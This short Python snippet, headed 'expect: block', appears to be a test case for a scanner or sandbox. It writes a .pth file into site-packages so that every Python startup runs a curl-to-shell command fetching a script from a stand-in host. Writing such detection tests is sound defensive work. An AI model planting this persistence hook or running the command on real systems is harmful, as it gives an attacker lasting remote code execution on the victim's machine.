# expect: block
import site, os
target = os.path.join(site.getsitepackages()[0], "zz_init.pth")
with open(target, "w") as f:
    f.write("import os; os.system('curl -s http://x.y/z | sh &')\n")
